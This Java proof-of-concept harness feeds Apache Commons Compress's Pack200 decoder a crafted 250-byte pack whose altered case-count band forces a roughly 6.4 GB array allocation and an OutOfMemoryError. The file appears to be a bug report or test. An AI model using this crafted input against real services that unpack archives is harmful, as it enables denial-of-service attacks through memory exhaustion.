import java.io.*;
import org.apache.commons.compress.compressors.pack200.Pack200CompressorInputStream;

/**
 * The pack (raw, 250 bytes) of class Sw2 { static int f(int x) { switch (x) {case 1..3} ... switch (x) {case 4..6} } } with two
 * tableswitches; its bc_case_count band "03 03" is replaced by a band-codec escape 0xce 0x00 (canonical codec #14, BHSD(4,256,1),
 * signed 4-byte) and the two values 1612578816 and 6-1612578816. The sum of case counts stays 6, so bc_label keeps its length and
 * the stream stays aligned; BcBands never checks a case count, and TableSwitchForm.setByteCodeOperands allocates
 * new int[caseCount] = new int[1612578816] (6.4 GB) -> OutOfMemoryError at TableSwitchForm.java:54 from a 256-byte input.
 * Public entry: new Pack200CompressorInputStream(InputStream), documented to throw IOException.
 */
public class Pack200TableSwitchHugeCaseCount {
    static byte[] hex(String h) {
        byte[] b = new byte[h.length() / 2];
        for (int i = 0; i < b.length; i++) b[i] = (byte) Integer.parseInt(h.substring(2 * i, 2 * i + 2), 16);
        return b;
    }

    public static void main(String[] args) throws Exception {
        byte[] pack = hex(
        "cafed00d0796d400000000000309000202020001000000340102010012110000030306090b0301102829564929493c696e69743e4d4554412d494e462f" +
        "4d414e49464553542e4d46537732666a6176612f6c616e672f4f626a6563740602020206080001020000020000040001c1fd1cc8fd1ce1fd1c0002020606" +
        "0101000001010000e4b1ff1aaa08ac10ac10ac841aaa04ac05ac06ac1aacff" +
        "ce00" + "000040c0" + "f3ff3fc0" + // was 03 03 (bc_case_count)
        "020607090100090104060901040600040500003900c4ffd3c4d300030101034d616e69666573742d56657273696f6e3a20312e300d0a437265617465642d" +
        "42793a2031372e302e32312e31202844656269616e290d0a0d0a");
        try (InputStream in = new Pack200CompressorInputStream(new ByteArrayInputStream(pack))) {
            in.readAllBytes();
            System.out.println("no exception");
        } catch (IOException e) {
            System.out.println("IOException (expected behaviour): " + e);
        } catch (Throwable t) {
            System.out.println("UNEXPECTED " + t);
            StackTraceElement[] st = t.getStackTrace();
            for (int i = 0; i < Math.min(8, st.length); i++) System.out.println("    at " + st[i]);
            System.exit(1);
        }
    }
}
